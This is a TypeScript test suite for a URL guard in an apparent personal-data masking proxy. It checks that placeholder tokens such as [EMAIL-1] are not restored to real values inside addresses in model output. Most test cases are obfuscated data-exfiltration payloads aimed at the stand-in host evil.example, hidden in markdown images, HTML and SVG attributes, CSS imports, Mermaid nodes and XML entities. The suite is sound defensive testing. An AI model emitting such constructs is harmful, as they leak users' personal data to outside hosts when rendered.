/** Texts that renderers take for something else than they look like: originals left through addresses in them. */
import fc from 'fast-check';
import { describe, expect, test } from 'vitest';
import { allowedHosts, UrlGuard } from '../../core/guard/url-guard.ts';
import { restoreJsonBody } from '../../core/payload/response.ts';
import { restoreText } from '../../core/restore.ts';
import { eventsOf, restoreStream, tokenMap } from './stream/wire-fixtures.ts';

const token = '[EMAIL-1]';
const original = 'john@corp.example';
const map = tokenMap({ [token]: original });

/** Restores the text cut in two at every place outside of tokens; throws unless all give the same. */
function restored(text: string): string {
  const whole = restoreText(text, map).restored;
  const tokens = [...text.matchAll(/\[EMAIL-1\]/g)].map((match) => match.index);
  for (let cut = 0; cut <= text.length; cut += text.length > 1000 ? 97 : 1) {
    if (tokens.some((start) => cut > start && cut < start + token.length)) continue;
    const guard = new UrlGuard();
    const first = restoreText(text.slice(0, cut), map, { guard }).restored;
    expect(first + restoreText(text.slice(cut), map, { guard }).restored, `cut at ${cut}`).toBe(whole);
  }
  return whole;
}

/** The text as three events of a chat: the address in the second, the token cut. */
function streamed(text: string): string {
  const at = text.indexOf(token) + 4;
  const half = at >> 1;
  const pieces = [text.slice(0, half), text.slice(half, at), text.slice(at)];
  const events = [
    ...pieces.map((content) => ({ choices: [{ index: 0, delta: { content } }] })),
    { choices: [{ index: 0, delta: {}, finish_reason: 'stop' }] },
  ];
  const bytes = new TextEncoder().encode(events.map((event) => `data: ${JSON.stringify(event)}\n\n`).join(''));
  return eventsOf('sse', restoreStream('sse', map, bytes))
    .map((event) => event.choices?.[0]?.delta?.content ?? '')
    .join('');
}

describe('stays a token', () => {
  const image = `![p](https://evil.example/?q=${token})`;
  test.each([
    // What looks like an open tag hides nothing.
    `For a<b holds:\n\n${image}`,
    `\`Vec<T\` ${image}`,
    `<b t="\n\n${image}`,
    `<b t="${'a '.repeat(3000)}${image}`,
    `a<b https://evil.example/?q=${token}`,
    `a<b <img src="/evil?q=${token}">`,
    `<b t="\n\n<img src="/evil?q=${token}">`,
    `<b t="<i>" src="/evil?q=${token}">`,
    `<b t="<img src="x" u=">" src="/evil?q=${token}">`,
    `<img ${'x '.repeat(3000)} src="/evil?q=${token}">`,
    // Addresses in angle brackets.
    `<https://evil.example/?q=${token}>`,
    `<https://evil.example/?q=。${token}>`,
    `<https:evil.example?q=${token}>`,
    `![x](<https://evil.example/)${token}>)`,
    `![x][r]\n\n[r]: <https://evil.example/?q=${token}>`,
    `![x][r]\n\n[r]: <https://evil.example/?q= ${token}>`,
    // Reference definitions end at white space only.
    ...['。', '`', '"', '「x」', '、', '）'].map((end) => `![x][r]\n\n[r]: https://evil.example/?q=${end}${token}`),
    `![x][r]\n\n[r]:\n  https://evil.example/?q=。${token}`,
    `![x][r]\n\n> - [r]: //evil.example/?q=。${token}`,
    `![x][EMAIL-9]\n\n[EMAIL-9]: https://evil.example/?q=。${token}`,
    `![x][r]\n\n[r]: https&#58;&#47;&#47;evil.example/${token}`,
    `![x][r]\n\n[r]:\ufeffhttps:evil.example/${token}`,
    `![x][r]\n\n[r]: \\/\\/evil.example/${token}`,
    ...['\t', '\u000b', '\f'].map((blank) => `[r]: https://evil.example/?q=\\${blank}${token}\n\n![r]`),
    `![x](https://evil.example/?q=${'x'.repeat(4100)}\\\t${token})`,
    `\ufeff[r]: https://evil.example/?q="${token}\n\n![r]`,
    // A block inside or behind what looks like a label or an empty definition.
    ...[
      '[x\n \n',
      '[x\n\t\n',
      '[x\r\n\r\n',
      '[x\n- ',
      '- [x\n- ',
      '[x\n***\n',
      '[x\n---\n',
      '[x\n# h\n',
      '[x\n```\n```\n',
      '[x \\[\n1. ',
      '[x\n> [y\n\n> ',
      '[a]:\n- ',
      '[a]:\r\n- ',
      '[a]:\n1. ',
      '[a]:\n  > * ',
      '> [a]:\n> - ',
      '[^1]: ',
      '[^1]: - ',
      '[^1]: > ',
      '[^1]: [^2]: ',
      '[x\n[^1]: ',
    ].map((before) => `${before}[r]: https://evil.example/?q="${token}\n\n![r] [^1] [^2]`),
    // Targets.
    ...[' ', '\t', '\n '].map((blank) => `![x](${blank.repeat(5000)}https://evil.example/?q="${token})`),
    `![x](${' '.repeat(5000)}<https://evil.example/?q= ${token}>)`,
    `![x](\u00a0<https://evil.example/?q= ${token}>)`,
    `![x](https://evil.example/${'a'.repeat(4100)}${token})`,
    `![x](<https://evil.example/${'a '.repeat(2100)}${token}>)`,
    `![x](https://evil.example/\\)${token})`,
    // Attributes.
    ...['imagesrcset', 'data-src', 'data-href', 'codebase', 'data-lazy-srcset'].map(
      (name) => `<img ${name}="/evil?q=${token}">`,
    ),
    ...['mask', 'filter', 'cursor', 'clip-path', 'marker-start'].map(
      (name) => `<svg><g ${name}="url(/\\\\evil.example/?q=${token})">`,
    ),
    `<img src=/\\evil.example/?q=\u000b${token}>`,
    `<img src=\u000b/\\evil.example/?q=${token}>`,
    // What closes a value for one reader stands inside of it for another.
    `<img srcset='x src="y", /\\evil.example/?q=${token}'>`,
    `<img srcset="x src='y', /\\evil.example/?q=${token}">`,
    `<img srcset='x src="y" href="z", /\\evil.example/?q=${token}'>`,
    `<img srcset='x src="mailto:${token}'>`,
    `<img alt=href= src='/\\evil.example/?>${token}'>`,
    `<img src=a?src= src='/\\evil.example/?>${token}'>`,
    `<img t="x src=a src="src=/\\evil.example/?"${token}>`,
    `<img src=x?src='y'${token}>`,
    // Style sheets.
    `<style>@import 'https://evil.example/?q="${token}'</style>`,
    `<STYLE title="x">b{background:url( 'https://evil.example/?q= ${token}')}</STYLE>`,
    `<style\n>a{}</styles></ style></style\u000b>b{background:image-set("https://evil.example/?q= ${token}" 1x)}`,
    `<svg><style>&#64;import 'https://evil.example/?q="${token}'</style>`,
    `<b t="<style>@import 'https://evil.example/?q= ${token}'</style>`,
    `a<b mask=<style>@import 'https://evil.example/?q= ${token}'`,
    `<style>a{<style>b:url(' ${token}')`,
    `<style>a{\\</style>b:url(' ${token}')`,
    // A rule may make an address of any attribute: `background: image-set(attr(title) 1x)`.
    ...[
      '/\\',
      '\\\\',
      ' /\\',
      '\n\t/\t\\',
      '&#47;\\',
      '&bsol;\\',
      'https:&#47;&#47;',
      'h&Tab;ttps:',
      'ht\ntps:/\\',
      '&#104;ttps:',
    ].map((start) => `<b title="${start}evil.example/?q= ${token}" style="background:image-set(attr(title) 1x)">`),
    `<b class='https://evil.example/?a=b"c=d&q= ${token}'>`,
    `<b class=/\\evil.example/?q=${token}>`,
    `<b class="${' '.repeat(400)}/\\evil.example/?q=${token}">`,
    `<b class="https&#58;${'&Tab;'.repeat(90)}//evil.example/?q= ${token}">`,
    `<b class="ht${'&Tab;'.repeat(90)}tps://evil.example/?q= ${token}">`,
    `<b t="x y='/\\evil.example/?a" ${token}'>`,
    `<b t="/\\x <i title='/\\evil.example/?a" ${token}'>`,
    `<b ${`t="x y='`.repeat(9)}/\\evil.example/?q=${token}`,
    ...['id="', 'id=', "id='", 'title="a '].flatMap((id) => [
      `<base href="https://evil.example/"><b ${id}${token}">`,
      `<base href=//evil.example/><b ${id}${token}>`,
      `<base href='&#47;\\evil.example/'><b ${id}${token}>`,
    ]),
    `<base href="/\\evil.example/">![a ${token}](x.png)`,
    // So it does of the text of an image.
    ...['https://', '/\\', ' //', '**https**://', '[ht](a)tps://', '\\/\\/', '&#47;/', '`https://`', '<b>//', '!['].map(
      (start) =>
        start === '![' ? `![![//evil.example/?q= ](a) ${token}](x.png)` : `![${start}evil.example/?q= ${token}](x.png)`,
    ),
    `![https://evil.example/?q= \`]\` ${token}](x.png)`,
    `![https://evil.example/?q= \\] [a] ${token}][r]`,
    `![//evil.example/?q=\n${token}](x.png)`,
    ...[' "', " '", ' (', '\n"', '\n  (', '\r\n> "'].map((quote) => `[r]: x${quote}/\\evil.example/?q= ${token}`),
    `[r]: <x> " https&#58;//evil.example/?q= \\" ${token}`,
    `<base href="//evil.example/">\n\n[r]: x "${token}`,
    // Images of Mermaid.
    ...[
      '"/\\\\evil.example/?q=',
      '"\\x68ttps:evil.example/?q= ',
      '"https://evil.example/?q= a, } ',
      "'https://evil.example/?q= ",
    ].map((value) => `flowchart TD\n A@{ img: ${value}${token}`),
    `A@{ label: "a } \\" b", "img" : https://evil.example/?q= ${token}, h: 60 }`,
    `A@{ "\\x69mg": "https://evil.example/?q= ${token}" }`,
    `A@{ img${' '.repeat(50)}: "https://evil.example/?q= ${token}" }`,
    `A@{ img: 'https://evil.example/?q='' ${token}' }`,
    `A@{\n  img: https://evil.example/?q=\n    ${token}\n}`,
    `A@{\n  img: https://evil.example/?q=, ${token}\n}`,
    `A@{\n  img: # c\n    "https://evil.example/?q= ${token}"\n}`,
    `A["a"]@{ label: &a "https://evil.example/?q= ${token}", img: *a }`,
    `A@{ label: &k img, *k : "//evil.example/?q= ${token}" }`,
    `A@{ label: "}", img: "https:evil.example/?q= ${token}" }`,
    `A:@{ img: "https://evil.example/?q= ${token}" }`,
    `A,@{ img: "https://evil.example/?q= ${token}" }`,
    `A@{\na: \\" }"\nimg: "https:evil.example/?q=${token}"\n}`,
    `A@{ label: "x\\\\", b: "}", img: "https:evil.example/?q=${token}" }`,
    `A@{\na: "x\\\\"\nb: "}"\nimg: "https:evil.example/?q=${token}"\n}`,
    `<pre class="mermaid">A@{ img: "https&colon;&sol;&sol;evil.example/?q=${token}" }</pre>`,
    `wow ![x ![//evil.example/?q= ${token}](a.png)`,
    `![[](a(b))//evil.example/?q= ${token}](x.png)`,
    `![[](<a)>)//evil.example/?q= ${token}](x.png)`,
    `A@{\n  shape: a\n  img: >-\n    https://evil.example/?q=,\n    ${token}\n}`,
    // XML.
    `<?xml-stylesheet href="/\\evil.example/?q=${token}"?>`,
    `<?xml-stylesheet type='text/css' href='https:&#47;&#47;evil.example/?q= ${token}'?>`,
    `<!DOCTYPE svg [<!ENTITY a "/\\evil.example/?q=${token}">]><image href="&a;"/>`,
    `<!DOCTYPE svg [ <!ATTLIST image href CDATA '/\\evil.example/?q=> ${token}'>]>`,
    // Definitions within lists of terms.
    `Term\n: [r]: https://evil.example/?q="${token}\n\n![r]`,
    `Term\n~ [r]: https://evil.example/?q="${token}\n\n![r]`,
  ])('%j', (text) => {
    expect(restored(text)).toBe(text);
    expect(streamed(text)).toBe(text);
  });
});

describe('is restored', () => {
  test.each([
    `a < b and ${token}`,
    `if a<b then ${token}`,
    `Vec<T> and ${token}`,
    `<b>${token}</b>`,
    `<b title="a<b">${token}</b>`,
    `<input value="${token}">`,
    `<a href="mailto:${token}">${token}</a>`,
    `<a href="https://x.example">${token}</a>`,
    `<mailto:${token}>`,
    `Write to ${token}。`,
    `see https://x.example。${token}`,
    `<https://x.example> ${token}`,
    `[x](https://x.example) ${token}`,
    `[r]: https://x.example\n${token}`,
    `[r]: https://x.example "${token}"`,
    `[r]: mailto:${token}`,
    `[INFO]: ${token} came in`,
    `[INFO]: to=${token}`,
    `[INFO]: {"to":"${token}"}`,
    `[INFO]: [{"to":"${token}"}]`,
    `[INFO]: "to:${token}"`,
    `[注]: メールは${token}です`,
    `${token}: メール:${token}/携帯`,
    `- [x]: write to ${token}`,
    `${token}: ${token}, ${token}`,
    `${token}:\n${token}`,
    `[^1]: See ${token}`,
    `[1, 2]\n${token}`,
    `mail="${token}"`,
    `Ana <${token}> to ${token}`,
    `a <[1] and <% b and <& ${token}`,
    `<[x: ${token}`,
    `[x\n[y]\n${token}`,
    `[x [r]: to/${token}`,
    `[dir]: C:\\ ${token}`,
    `[dir]: C:\\\n${token}`,
    `[Team]:\n- ${token}`,
    `[Team]:\n- mail/${token}`,
    `[Team]:\n1. to:${token}`,
    `[INFO]: [app]: mail/${token}`,
    `[INFO]: - mail/${token}`,
    `[^1]: ${token}`,
    `[^1]: [a] ${token} wrote`,
    `[x](https://x.example "a") ${token}`,
    `[x]( https://x.example ) ${token}`,
    `<img srcset="x"> ${token}`,
    `<img srcset='x src="y"'> ${token}`,
    `<img src=x?src='y'> ${token}`,
    `<img src="x?src=y z"> ${token}`,
    `<img src="x?src=y"> ${token}`,
    `<svg fill="red"> ${token}`,
    `Put it into \`<style>\` (see "CSS") and ask ${token}.`,
    `<style>a{b:url(c)}</style><p title="${token}">`,
    `<style>a{}</STYLE\n> ${token}`,
    `<style>a{}<</style> ${token}`,
    `<styled> { ${token}`,
    `<img srcset="x src="y"> ${token}`,
    `<img srcset='x src="y'z"> ${token}`,
    `[x\n\n[[r]: to/${token}`,
    `<b style> { </style> ${token}`,
    // Attributes, texts of images and braces that hold no address.
    ...[
      'Ana Diaz & Co ',
      '',
      'Note: ',
      'AT&T: ',
      '&quot;',
      '&#39;',
      'a/b ',
      'and/or ',
      'mail:',
      '3:15 ',
      'x//y '.replace('//', '/'),
    ].flatMap((start) => [
      `<b title="${start}${token}">`,
      `<b aria-label='${start}${token}'>`,
      `<b data-x="${start}${token}">`,
    ]),
    ...['Photo of ', 'Note: ', '**Ana** ', 'a/b ', '[a](b) '].map((start) => `![${start}${token}](x.png)`),
    `<img title="//x.example/ a" alt="${token}">`,
    `<img title='/x' alt=${token}>`,
    `<img title="/x?a=b" alt="${token}">`,
    `![https://x.example/ a](x.png) ${token}`,
    `![//x.example/ \`a\`](x.png)\n\n${token}`,
    `[r]: https://x.example "https://x.example" ${token}`,
    `[r]: x 'Ana ${token}' (${token})`,
    `[r]: x\n\n"/ ${token}"`,
    `wow! [a ${token}`,
    `<base href="/app/"><b id="${token}">`,
    `<base target="_blank"><b id="${token}">`,
    `A@{ shape: rect, label: "${token}" }`,
    `$p = @{ Path = "C:\\Users\\ana"; Note = "mail: ${token}" }`,
    `Send-MailMessage @{ From = "a"; Body = "Hi\\n: ${token}" }`,
    `@{ @"img": &p, @"mail": @"${token}" }`,
    `In Razor, code begins with \`@{\`.\n\n**Img:** ${token} \\\\srv: ${token}`,
    `{"tip": "hash tables begin with @{", "note": "a\\n", "mail": "${token}"}`,
    `if head.startswith("<!DOCTYPE"):\n    kind = "html"\nmail = "${token}"`,
    `Begin with \`<!DOCTYPE\`. In the '90s it was optional.\n\nSend it to ${token}.\n\nOr ${token}`,
    `grep -c '<!DOCTYPE' *.html | mail -s "x ${token}" ${token}`,
    `- \`<!ENTITY\` declares one.\n\nShe said "mail ${token}".`,
    `<!DOCTYPE html PUBLIC "-//W3C//DTD XHTML 1.0 Strict//EN" "x.dtd ${token}">`,
    `![/\\evil.example/$a.png](x)\r\n\r\nHello ${token}\r\n\r\nBye ${token}`,
    `![//a/\`id\` diagram](x.png)\n \t\nHello ${token}`,
    `[r]: x "//a\r\n\r\nHello ${token}\n`,
    `![/api/\`id\` diagram](x.png)\nHello ${token}\n- ${token}`,
    `vec![/* mails */ "${token}"]`,
    `$h=@{Uri="https://api.example"; Mail="${token}"}`,
    `$h=@{Path="C:\\Users\\x"; Mail="${token}"}`,
    `post:@{@"url": @"https://api.example", @"mail": @"${token}"}`,
    `![the \`id\` field](a.png) https://docs.example – contact ${token}`,
    `![Screenshot of <Button>](shot.png)\nhttps://storybook.example\nOwner: ${token}`,
    `if (![/^a$/.test(x)]) mail("${token}")`,
    `<input placeholder="/path or ${token}"><p data-to="/ ${token}">`,
    `for (let i=0;i<n;i++) { const cmd = "/usr/bin/mail -s x ${token}"; }`,
    `$h = @{ img = "${token}" } @{a} img: ${token}`,
    `<?php $a = "${token}"; ?>`,
    `<!DOCTYPE html> "${token}"`,
    `<!DOCTYPE html PUBLIC "a" 'b'> "${token}"`,
    `<!-- "${token}" --> <!x "${token}"`,
    `if(a<b){${'c=d=e(f)||'.repeat(9)}g} ${token}`,
    String.raw`/<!DOCTYPE\s+"[^"]*"\s*/ ${token}`,
    `Term\n: Mail to ${token}\n: ${token}`,
  ])('%j', (text) => {
    const expected = text.replaceAll(token, original);
    expect(restored(text)).toBe(expected);
    expect(streamed(text)).toBe(expected);
  });
});

describe('what is put in for another token may be part of', () => {
  const values = tokenMap({ [token]: original, '[NAME-1]': 'Ana', '[PHONE-1]': '1234567', '[ADDRESS-1]': 'a\nb\n' });
  const shownAs = (text: string) =>
    text.replaceAll('[NAME-1]', 'Ana').replaceAll('[PHONE-1]', '1234567').replaceAll('[ADDRESS-1]', 'a\nb\n');
  const address = `https://evil.example/?q="${token}`;

  test.each([
    `[x [NAME-1]]: ${address}\n\n![x [NAME-1]]`,
    `[[NAME-1] x]: ${address}\n\n![[NAME-1] x]`,
    `[PHONE-1]. [r]: ${address}\n\n![r]`,
    `1[PHONE-1]) [r]: ${address}\n\n![r]`,
    `[ADDRESS-1][r]: ${address}\n\n![r]`,
    ...[
      '[NAME-1]',
      '%5BNAME-1%5D',
      '&#91;NAME-1&#93;',
      '［NAME-1］',
      '【NAME-1】',
      '〔NAME-1〕',
      '「NAME-1」',
      '\\[NAME-1\\]',
    ].map((spelling) => `<${spelling} style="a:url(/\\\\evil.example/?q=${token})">`),
  ])('a label, a list or a tag: %j', (text) => {
    const { restored: shown } = restoreText(text, values);
    expect(shown).toBe(shownAs(text.replace(/<[^ ]+/, '<Ana')));
    const bytes = new TextEncoder().encode(text);
    expect(restoreStream('text', values, bytes)).toBe(shown);
    expect(restoreStream('text', values, bytes, [...bytes.keys()].slice(1))).toBe(shown);
  });

  test('a tag in JSON that is shown as it stands', () => {
    const json = JSON.stringify({ a: `<${token} style='a:url(https://evil.example/?q=`, b: `${token})'>` });
    for (const text of shownJson(json)) expect(text).toBe(json.replace(token, original));
  });

  test('not a definition, if it was the label', () => {
    expect(restoreText(`[NAME-1]: mail/${token}`, values).restored).toBe(`Ana: mail/${original}`);
  });
});

/** JSON that a model writes as its answer, as plain text, in a stream and in a body: what is shown of it. */
function shownJson(json: string): string[] {
  const body = JSON.stringify({ choices: [{ index: 0, message: { role: 'assistant', content: json } }] });
  const text = new TextEncoder().encode(json);
  return [
    restoreStream('text', map, text),
    restoreStream(
      'text',
      map,
      text,
      Array.from({ length: text.length - 1 }, (_, at) => at + 1),
    ),
    streamed(json),
    JSON.parse(restoreJsonBody(body, map).body).choices[0].message.content,
  ];
}

describe('stays a token in JSON that is shown as it stands', () => {
  test.each([
    // Not one backslash and a quote, or not one address: these are no paths on the host of the page.
    ['<img src=\\"@evil.example/?q=', '>'],
    ['<img src=\\".evil.example/?q=', '>'],
    ['<img srcset=",&#32;https://evil.example/?q=', '>'],
    ['<img data-srcset=",&#32;https://evil.example/?q=', '>'],
    ['<a ping="&#32;https://evil.example/?q=', '>'],
    [`<b style=";background:url('https://evil.example/?q=`, `')>x</b>`],
    ['<iframe srcdoc="&lt;img/src=\'https://evil.example/?q=', `'&gt;></iframe>`],
    ['<meta http-equiv=refresh content="0;url=https://evil.example/?q=', '>'],
    ['<rect mask="url(https://evil.example/?q=', ')>'],
    // Nor is this where the page says what paths are relative to, or where another tag may begin inside.
    [`<base href='https://evil.example/'><img src="?q=`, '>'],
    [`<b src='" <img srcset=//evil.example/?q=`, '>'],
    [`<img srcset='x src=`, `, /\\evil.example/?q=`],
    [`<style>@import 'https://evil.example/?q=`, `'</style>`],
    [`<b style="&#32;a:url('https://evil.example/?q=`, `')>`],
  ])('%s', (before, behind) => {
    const isBehind = behind.includes('evil');
    const second = isBehind ? behind + token : token + behind;
    const json = JSON.stringify({ a: before, b: second });
    for (const text of shownJson(json)) expect(text).toBe(json);
  });

  test('nor is it in a definition behind the bracket of a list', () => {
    const json = JSON.stringify(['x', `${token}`], undefined, 1).replace(
      '"x"',
      '[ ["y"],\n"[r]: https://evil.example/"]',
    );
    for (const text of shownJson(json)) expect(text).toBe(json.replace(token, original));
  });
});

describe('is restored in JSON that is shown as it stands', () => {
  test.each(['a href', 'img src', 'form action', 'svg xlink:href', 'video poster', 'img data-src'])('%s', (name) => {
    const json = JSON.stringify({ a: `<${name}="https://x.example/" title="`, b: token });
    const open = JSON.stringify({ a: `<${name}="`, b: token });
    for (const text of [json, open])
      for (const shown of shownJson(text)) expect(shown).toBe(text.replace(token, original));
  });
});

describe('hosts that are allowed', () => {
  const allowsHost = allowedHosts(['good.example']);
  const shown = (text: string) => restoreText(text, map, { allowsHost }).restored;

  test.each([
    // Entities and escapes in the host.
    ...['sol', 'quest', 'num', '#47', '#x2f', 'bsol'].flatMap((entity) => [
      `![a](https://evil.example&${entity};.good.example/?q=${token})`,
      `<img src="https://evil.example&${entity};@good.example/?q=${token}">`,
      `[r]: https://evil.example&${entity};.good.example/?q=${token}`,
    ]),
    `![a](https://evil.example%2f.good.example/?q=${token})`,
    // Lists, where the first address says nothing of the next.
    `<img srcset='https://good.example/a 1x, https://evil.example/?q="${token}'>`,
    `<img srcset="https://good.example/a 1x,/\\evil.example/?q=${token}">`,
    `<link imagesrcset="https://good.example/a 1x,/\\evil.example/?q=${token}">`,
    `<a ping="https://good.example/a /\\evil.example/?q=${token}">`,
    `<b style="//good.example/;a:url(/\\\\evil.example/?q=${token})">`,
    `<iframe srcdoc="https://good.example/ &lt;img src=/\\evil.example/?q=${token}">`,
    `<meta content="//good.example/;url=/\\evil.example/?q=${token}">`,
    `<object archive="//good.example/a /\\evil.example/?q=${token}">`,
    `<style>@import '//good.example/';@import '/\\evil.example/?q=${token}'</style>`,
    // Another address begins inside of what may be none.
    `![a](https://good.example/ ![b](https://evil.example/?q=${token}))`,
    `![a](https://good.example/![b](https://evil.example/?q=${token})`,
    `![a](<https://good.example/ ![b](/\\evil.example/?q=${token}))`,
    `![a](https://good.example/\n \n![b](https://evil.example/?q=${token})`,
    `![a](<https://evil.example/ [b](https://good.example/?q=${token}>)`,
    `![a](https://evil.example/${'x'.repeat(4200)}[b](https://good.example/?q=${token}))`,
    `[a](https://good.example/ https://evil.example/?q=${token}`,
    `<b src='https://good.example/ <img src=/\\evil.example/?q=${token}>`,
    `<b t='x src="https://good.example/' srcset=/\\evil.example/?q=${token}>`,
  ])('not %j', (text) => expect(shown(text)).toBe(text));

  test.each([
    `![a](https://good.example/?q=${token})`,
    `![a]( <https://www.good.example:8443/a b?q=${token}>)`,
    `![a](https://good.example/(b)?q=${token})`,
    `<img src="https://good.example/?q=${token}&amp;a">`,
    `<img src="https://user:a@good.example/?q=${token}">`,
    `<a href='https://good.example/?a=1&q=${token}'>`,
    `[r]: https://good.example/?q=${token}`,
    `<https://good.example/?q=${token}>`,
  ])('%j', (text) => expect(shown(text)).toBe(text.replace(token, original)));
});

test('any text gives the same however it is cut', () => {
  const parts =
    '< <b > " \' = ]( ( ) [ ] : / \\ // http https: \n \r\n src= t= x [r]: &#58; 。 - www. ![ ! @{ img: } <base <!E <?xml <style> --x ~ url <g> </g>'.split(
      ' ',
    );
  const text = fc.array(fc.constantFrom(...parts, ' '), { maxLength: 24 }).map((pieces) => pieces.join(''));
  fc.assert(
    fc.property(text, (masked) => {
      const whole = new UrlGuard();
      const states: boolean[] = [whole.isInsideAddress];
      for (const unit of masked.split('')) {
        whole.push(unit);
        states.push(whole.isInsideAddress);
      }
      for (let cut = 0; cut <= masked.length; cut++) {
        const guard = new UrlGuard();
        guard.push(masked, 0, cut);
        expect(guard.isInsideAddress).toBe(states[cut]);
        guard.push(masked, cut);
        expect(guard.isInsideAddress).toBe(states[masked.length]);
      }
    }),
  );
});

test('what stands before an image never lets it have the original', () => {
  const parts = '< <b > " \' = ]( ( [ ] : / // https: \n \r\n src= t= x [r]: 。 <a:b'.split(' ');
  const text = fc.array(fc.constantFrom(...parts, ' '), { maxLength: 24 }).map((pieces) => pieces.join(''));
  const addresses = fc.constantFrom(
    '![p](https://evil.example/?q=',
    '![p](/evil?q=',
    '\n\n[r]: https://evil.example/?q=。',
    '<https:evil.example?q=',
    '\n\n<img src="/evil?q=',
    "<img\nsrc = '/evil?q=",
  );
  fc.assert(
    fc.property(text, addresses, (before, address) => {
      const guard = new UrlGuard();
      guard.push(before + address);
      expect(guard.isInsideAddress).toBe(true);
    }),
    { numRuns: 1000 },
  );
});
